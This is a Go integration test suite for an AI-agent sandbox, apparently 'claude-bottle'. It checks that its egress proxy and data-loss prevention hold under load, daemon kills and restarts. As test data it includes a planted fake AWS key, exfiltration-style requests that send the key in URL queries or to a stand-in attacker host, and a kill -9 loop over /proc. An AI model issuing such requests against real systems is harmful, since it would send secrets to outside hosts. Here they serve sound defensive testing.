//go:build integration

package integration

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"gotest.tools/v3/assert"
	is "gotest.tools/v3/assert/cmp"
	"gotest.tools/v3/poll"

	"github.com/claude-bottle/claude-bottle/internal/benchload"
	"github.com/claude-bottle/claude-bottle/internal/benchreport"
	"github.com/claude-bottle/claude-bottle/internal/itest"
	"github.com/claude-bottle/claude-bottle/internal/leakcheck"
	"github.com/claude-bottle/claude-bottle/internal/standin"
	"github.com/claude-bottle/claude-bottle/pkg/contract"
	"github.com/claude-bottle/claude-bottle/pkg/images"
	"github.com/claude-bottle/claude-bottle/pkg/lifecycle"
	"github.com/claude-bottle/claude-bottle/pkg/operator"
)

const faultsAWS = "AKIAQ7R2XNPLW3JKD5VT"

// faultsDuration is the load length of the fault tests: 10 s in CI; `mage
// bench` (or CLAUDE_BOTTLE_FAULTS_DURATION=60s by hand) runs the long form.
func faultsDuration(def time.Duration) time.Duration {
	if v, ok := itest.LookupEnv("CLAUDE_BOTTLE_FAULTS_DURATION"); ok {
		if d, err := time.ParseDuration(v); err == nil && d > 0 {
			return d
		}
	}
	return def
}

func faultsConc() int {
	if v, ok := itest.LookupEnv("CLAUDE_BOTTLE_FAULTS_CONC"); ok {
		if n, err := strconv.Atoi(v); err == nil && n > 0 {
			return n
		}
	}
	return 16
}

type faultsRig struct {
	*itest.Rig
	client *itest.Container
}

func newFaultsRig(t *testing.T, env *itest.Env, name string) faultsRig {
	t.Helper()
	lookup := func(k string) (string, bool) {
		if k == "PLANTED_AWS" {
			return faultsAWS, true
		}
		return "", false
	}
	rig := env.StandinRig(t, itest.RigOptions{Shape: contract.ShapeFromEnv(itest.LookupEnv), Lookup: lookup, Manifest: `name = "` + name + `"
image = "` + images.AgentTestImage + `"
[[egress.routes]]
host = "` + itest.AllowedHost + `"
[dlp]
canaries = ["PLANTED_AWS"]
[supervise]
enabled = false
`})
	bin := itest.ToolBinary(t, "benchload")
	client := env.Run(t, itest.RunSpec{Name: name + "-client", Image: images.AgentTestImage, Network: contract.InternalNetwork(rig.Plan.Slug), User: "0:0", // reads the 0700 state dir
		Entrypoint: []string{"sleep", "infinity"}, Binds: []string{bin + ":/bench/benchload:ro", rig.Layout.AgentCADir(rig.Plan.Slug) + ":/ca:ro"}})
	return faultsRig{Rig: rig, client: client}
}

// mixed starts the mixed load in the client container and returns a
// channel with its result.
func (r faultsRig) mixed(t *testing.T, d time.Duration, conc int) <-chan benchload.MixedResult {
	t.Helper()
	blocked := "https://" + itest.AllowedHost + "/leak?k=" + faultsAWS + " https://" + itest.AttackerHost + "/x"
	cmd := fmt.Sprintf("/bench/benchload mixed -allowed https://%s/ok -blocked '%s' -proxy %s -cacert /ca/ca.pem -c %d -d %s",
		itest.AllowedHost, blocked, contract.URL(contract.Egress), conc, d)
	ch := make(chan benchload.MixedResult, 1)
	go func() {
		res := r.client.Exec(t, cmd)
		var m benchload.MixedResult
		if err := json.Unmarshal([]byte(res.Stdout), &m); err != nil {
			m.FirstFailure = fmt.Sprintf("benchload: %v: %s %s", err, res.Stdout, res.Stderr)
			m.AllowedFailed = -1
		}
		ch <- m
	}()
	return ch
}

// checkFarSide: the stand-in internet got no request carrying the
// canary and nothing for the attacker.
func (r faultsRig) checkFarSide(t *testing.T) int {
	t.Helper()
	recs, err := standin.ParseRecords(r.Internet.Logs(t))
	assert.NilError(t, err)
	assert.Assert(t, len(recs) > 0, "the stand-in received nothing: the rig is broken")
	leaked := 0
	for _, rec := range recs {
		if hits := leakcheck.Find(rec.Text(), map[string]string{"PLANTED_AWS": faultsAWS}); len(hits) > 0 {
			leaked++
			t.Errorf("leaked to the stand-in: %s", rec.Text())
		}
	}
	att, err := standin.ParseRecords(r.Attacker.Logs(t))
	assert.NilError(t, err)
	assert.Equal(t, len(att), 0, "the attacker host was reached")
	return leaked + len(att)
}

func p99(xs []int32) float64 {
	if len(xs) == 0 {
		return 0
	}
	s := slices.Clone(xs)
	slices.Sort(s)
	return float64(s[int(0.99*float64(len(s)-1))]) / 1000
}

// writeFigures stores a test's figures for the bench report when
// CLAUDE_BOTTLE_FAULTS_OUT names a directory.
func writeFigures(t *testing.T, name string, v any) {
	dir, ok := itest.LookupEnv(benchreport.FaultsOutEnv)
	if !ok || dir == "" {
		return
	}
	b, err := json.MarshalIndent(v, "", "  ")
	assert.NilError(t, err)
	assert.NilError(t, os.WriteFile(filepath.Join(dir, name+"-"+string(contract.ShapeFromEnv(itest.LookupEnv))+".json"), b, 0o644))
}

// TestAllowlistChangesUnderLoad applies an allowlist change (the approval
// path, apply_allowlist_change) every interval while clients hammer the
// chain with allowed and blocked requests: no allowed request fails, no
// blocked one is admitted, nothing reaches the far side that DLP should
// stop, and the latency during a reload is reported beside the rest.
func TestAllowlistChangesUnderLoad(t *testing.T) {
	env := itest.Require(t)
	sidecarImage(t, env)
	env.RequireImage(t, images.AgentTestImage, "build:agentTest")
	r := newFaultsRig(t, env, "reloadload")
	d, conc := faultsDuration(10*time.Second), faultsConc()
	every := max(d/12, time.Second)
	op := &operator.Operator{Layout: r.Layout, Applier: r.Eng}
	resc := r.mixed(t, d, conc)
	type window struct{ from, to int64 }
	var windows []window
	time.Sleep(every / 2)
	deadline := time.Now().Add(d - every)
	for i := 0; time.Now().Before(deadline); i++ {
		t0 := time.Now()
		_, err := op.AllowHosts(t.Context(), r.Plan.Slug, []string{fmt.Sprintf("r%d.allowed.test", i)}, "load test")
		assert.NilError(t, err)
		windows = append(windows, window{t0.UnixMilli(), time.Now().UnixMilli()})
		time.Sleep(every)
	}
	res := <-resc
	assert.Equal(t, res.AllowedFailed, 0, "allowed requests failed during reloads: %s", res.FirstFailure)
	assert.Equal(t, res.BlockedPassed, 0, "blocked requests admitted: %v", res.Admitted)
	assert.Assert(t, res.AllowedOK > 0 && res.BlockedRefused > 0)
	var during, outside []int32
	for i, at := range res.OKAtMs {
		abs := res.StartUnixMs + int64(at)
		in := false
		for _, w := range windows {
			if abs >= w.from-100 && abs <= w.to+500 {
				in = true
			}
		}
		if in {
			during = append(during, res.OKLatUs[i])
		} else {
			outside = append(outside, res.OKLatUs[i])
		}
	}
	figs := benchreport.ReloadFigures{DurationS: d.Seconds(), Concurrency: conc, Reloads: len(windows), AllowedOK: res.AllowedOK,
		AllowedFailed: res.AllowedFailed, BlockedRefused: res.BlockedRefused, BlockedAdmitted: res.BlockedPassed,
		P99MsDuringReload: p99(during), P99MsOtherwise: p99(outside), SamplesDuring: len(during)}
	t.Logf("figures: %+v", figs)
	writeFigures(t, "reload-under-load", figs)
	r.checkFarSide(t)
}

// killDaemon kill -9s daemon's process inside container (the bundle, or
// the legacy sidecar), as a crash or a hostile request that panics it would.
func killDaemon(t *testing.T, r faultsRig, daemon string) {
	t.Helper()
	script := `for d in /proc/[0-9]*; do if tr '\0' ' ' < $d/cmdline 2>/dev/null | grep -q "^` + contract.SidecarBinary + ` ` + daemon + ` "; then kill -9 ${d#/proc/} && echo killed ${d#/proc/}; fi; done`
	out, code, err := r.Eng.Exec(t.Context(), r.SidecarFor(daemon), "", []string{"sh", "-c", script})
	assert.NilError(t, err)
	// 137: in the legacy shape the daemon is the container's only process,
	// so the container (and this exec) dies with it until the engine's
	// restart policy starts it again.
	assert.Assert(t, code == 0 || code == 137 && r.Plan.Shape == contract.Legacy, "exit %d: %s", code, out)
	assert.Assert(t, is.Contains(out, "killed"), "no %s process found: %s", daemon, out)
}

// TestDaemonKilledUnderLoad kill -9s pipelock and egress, in turn, while
// clients run the mixed load: blocked requests are never admitted and the
// far side receives nothing DLP should stop (a daemon that is down fails
// closed; egress never goes around pipelock), and the bottle serves again
// after each kill; the recovery times are reported.
func TestDaemonKilledUnderLoad(t *testing.T) {
	env := itest.Require(t)
	sidecarImage(t, env)
	env.RequireImage(t, images.AgentTestImage, "build:agentTest")
	r := newFaultsRig(t, env, "killload")
	gap := 6 * time.Second
	if r.Plan.Shape == contract.Legacy {
		gap = 10 * time.Second // the engine restarts the container: slower than initd
	}
	kills := []string{contract.Pipelock, contract.Egress, contract.Pipelock, contract.Egress}
	// One gap before the first kill and two after the last, so the last
	// kill has as long to recover as the others on a busy machine.
	d := max(faultsDuration(0), time.Duration(len(kills)+2)*gap)
	resc := r.mixed(t, d, faultsConc())
	time.Sleep(gap)
	type kill struct {
		daemon string
		at     int64
	}
	var done []kill
	for _, k := range kills {
		// Timed after the exec returns: the process is dead by then, so no
		// request counted below can have used it (a conservative figure).
		killDaemon(t, r, k)
		done = append(done, kill{k, time.Now().UnixMilli()})
		time.Sleep(gap)
	}
	res := <-resc
	assert.Assert(t, res.AllowedFailed >= 0, res.FirstFailure)
	assert.Equal(t, res.BlockedPassed, 0, "blocked requests admitted while a daemon restarted: %v", res.Admitted)
	recovery := map[string][]float64{}
	for i, k := range done {
		end := res.StartUnixMs + int64(d/time.Millisecond)
		if i+1 < len(done) {
			end = done[i+1].at
		}
		// The bottle serves again when a request that started after the
		// kill (so it cannot have used the killed process) completes OK.
		back := int64(-1)
		for j, o := range res.OKAtMs {
			start := res.StartUnixMs + int64(o)
			done := start + int64(res.OKLatUs[j])/1000
			if start > k.at && start < end && (back < 0 || done < back) {
				back = done
			}
		}
		if back < 0 {
			bs, _ := r.Eng.Bottles(t.Context(), r.Layout)
			t.Fatalf("the bottle did not serve again after kill -9 of %s: %+v; %s", k.daemon, bs, res.FirstFailure)
		}
		recovery[k.daemon] = append(recovery[k.daemon], float64(back-k.at)/1000)
	}
	t.Logf("recovery after kill -9 (s): %v; allowed ok %d failed %d (while down: fail closed); blocked refused %d admitted %d; first failure: %s",
		recovery, res.AllowedOK, res.AllowedFailed, res.BlockedRefused, res.BlockedPassed, res.FirstFailure)
	leaked := r.checkFarSide(t)
	writeFigures(t, "kill-under-load", benchreport.KillFigures{RecoveryS: recovery, AllowedOK: res.AllowedOK, AllowedFailedWhileDown: res.AllowedFailed,
		BlockedAdmitted: res.BlockedPassed, Leaked: leaked, FirstFailure: res.FirstFailure})
	// ls shows the restarts.
	poll.WaitOn(t, func(poll.LogT) poll.Result {
		bs, err := r.Eng.Bottles(t.Context(), r.Layout)
		if err != nil {
			return poll.Error(err)
		}
		for _, b := range bs {
			if b.Slug == r.Plan.Slug && b.Restarts[contract.Pipelock] >= 2 && b.Restarts[contract.Egress] >= 2 {
				return poll.Success()
			}
			if b.Slug == r.Plan.Slug {
				return poll.Continue("restarts not shown yet: %+v", b.Assessment)
			}
		}
		return poll.Continue("bottle not listed")
	}, poll.WithTimeout(15*time.Second), poll.WithDelay(500*time.Millisecond))
}

// TestContainersStoppedAndStarted stops every container of a running
// bottle and starts them again, as an engine restart does (agent first, the
// worst order): the bottle is healthy again by ls, serves allowed requests
// and still blocks.
func TestContainersStoppedAndStarted(t *testing.T) {
	env := itest.Require(t)
	sidecarImage(t, env)
	env.RequireImage(t, images.AgentTestImage, "build:agentTest")
	r := newFaultsRig(t, env, "restarted")
	cs, err := r.Eng.BottleContainers(t.Context(), r.Plan.Slug)
	assert.NilError(t, err)
	slices.SortFunc(cs, func(a, b lifecycle.BottleContainer) int { return strings.Compare(b.Role, a.Role) })
	for _, c := range cs {
		assert.NilError(t, dockerClient(t).StopContainer(c.ID, 10))
	}
	bs, err := r.Eng.Bottles(t.Context(), r.Layout)
	assert.NilError(t, err)
	for _, b := range bs {
		if b.Slug == r.Plan.Slug {
			assert.Equal(t, b.Status, lifecycle.BottleBroken)
			assert.Assert(t, is.Contains(b.Fix, "docker start"), "%+v", b.Assessment)
		}
	}
	agentFirst := slices.Clone(cs)
	slices.SortFunc(agentFirst, func(a, b lifecycle.BottleContainer) int {
		return boolToInt(b.Role == "agent") - boolToInt(a.Role == "agent")
	})
	for _, c := range agentFirst {
		assert.NilError(t, dockerClient(t).StartContainer(c.ID, nil))
	}
	poll.WaitOn(t, func(poll.LogT) poll.Result {
		bs, err := r.Eng.Bottles(t.Context(), r.Layout)
		if err != nil {
			return poll.Error(err)
		}
		for _, b := range bs {
			if b.Slug == r.Plan.Slug && b.Status == lifecycle.BottleOK {
				return poll.Success()
			}
			if b.Slug == r.Plan.Slug {
				return poll.Continue("bottle %s: %+v", b.Status, b.Assessment)
			}
		}
		return poll.Continue("bottle not listed")
	}, poll.WithTimeout(60*time.Second), poll.WithDelay(500*time.Millisecond))
	agent := contract.AgentContainer(r.Plan.Slug)
	poll.WaitOn(t, func(poll.LogT) poll.Result {
		out, _, err := r.Eng.Exec(t.Context(), agent, "", []string{"sh", "-c", "curl -sS --max-time 10 -o /dev/null -w '%{http_code}' https://" + itest.AllowedHost + "/after-restart"})
		if err == nil && out == "200" {
			return poll.Success()
		}
		return poll.Continue("allowed request after restart: %s %v", out, err)
	}, poll.WithTimeout(30*time.Second), poll.WithDelay(500*time.Millisecond))
	out, _, err := r.Eng.Exec(t.Context(), agent, "", []string{"sh", "-c", "curl -sS --max-time 10 'https://" + itest.AllowedHost + "/p?k=" + faultsAWS + "'"})
	assert.NilError(t, err)
	assert.Assert(t, is.Contains(out, "blocked: "), out)
	r.checkFarSide(t)
}

func boolToInt(b bool) int {
	if b {
		return 1
	}
	return 0
}

// TestUpInterruptedAtEveryStep runs the real CLI binary and interrupts
// `up` at each step of its progress list (SIGINT as Ctrl-C does, SIGTERM,
// and an injected engine error): no container, no network and no state is
// left, and the CLI says so.
func TestUpInterruptedAtEveryStep(t *testing.T) {
	env := itest.Require(t)
	sidecarImage(t, env)
	env.RequireImage(t, images.AgentTestImage, "build:agentTest")
	root, err := images.SourceRoot(".", os.LookupEnv)
	assert.NilError(t, err)
	bin := filepath.Join(t.TempDir(), "claude-bottle")
	build := exec.Command("go", "build", "-o", bin, "./cmd/claude-bottle")
	build.Dir = root
	out, err := build.CombinedOutput()
	assert.NilError(t, err, string(out))
	home := t.TempDir()
	manifest := filepath.Join(home, "bottle.toml")
	assert.NilError(t, os.WriteFile(manifest, []byte("name = \"intr\"\nimage = \""+images.AgentTestImage+"\"\n[[egress.routes]]\nhost = \"api.github.com\"\n"), 0o644))
	type tc struct{ step, how string }
	var cases []tc
	for _, s := range lifecycle.UpSteps {
		cases = append(cases, tc{s, "SIGINT"})
	}
	cases = append(cases, tc{"sidecars-healthy", "SIGTERM"}, tc{"networks", "error"}, tc{"agent-started", "error"})
	for _, c := range cases {
		t.Run(c.step+"-"+c.how, func(t *testing.T) {
			ctx, cancel := context.WithTimeout(t.Context(), 3*time.Minute)
			defer cancel()
			cmd := exec.CommandContext(ctx, bin, "up", "-f", manifest, "--detach")
			cmd.Env = append(os.Environ(), "CLAUDE_BOTTLE_HOME="+home, lifecycle.FailAtEnv+"="+c.step+":"+c.how)
			outb, err := cmd.CombinedOutput()
			out := string(outb)
			assert.Assert(t, err != nil, "up succeeded despite the interruption: %s", out)
			slug := ""
			for _, f := range strings.Fields(out) {
				if s := strings.TrimSuffix(f, ":"); strings.HasPrefix(s, "intr-") && contract.ValidateSlug(s) == nil {
					slug = s
					break
				}
			}
			if c.how == "error" && !strings.Contains(out, "nothing is left") {
				// A failure after containers existed keeps their logs only.
				assert.Assert(t, is.Contains(out, "engine error injected at step "+c.step), out)
				assert.Assert(t, is.Contains(out, "only "), out)
				assert.Assert(t, slug != "")
				entries, err := os.ReadDir(filepath.Join(home, "state", slug))
				assert.NilError(t, err)
				var got []string
				for _, e := range entries {
					got = append(got, e.Name())
				}
				assert.DeepEqual(t, got, []string{"compose.log"})
				assert.NilError(t, os.RemoveAll(filepath.Join(home, "state", slug)))
			} else {
				assert.Assert(t, is.Contains(out, "nothing is left"), out)
			}
			if slug != "" {
				assertGone(t, env, home, slug)
			}
			// Nothing at all of any intr bottle under this home.
			entries, err := os.ReadDir(filepath.Join(home, "state"))
			if err == nil {
				assert.Equal(t, len(entries), 0, "state left: %v", entries)
			}
			q, err := os.ReadDir(filepath.Join(home, "queue"))
			if err == nil {
				assert.Equal(t, len(q), 0, "queue left: %v", q)
			}
			left, err := dockerClient(t).FilteredListNetworks(map[string]map[string]bool{"label": {contract.LabelSlug: true}})
			assert.NilError(t, err)
			for _, n := range left {
				assert.Assert(t, !strings.Contains(n.Name, "-intr-"), "network left: %s", n.Name)
			}
		})
	}
}
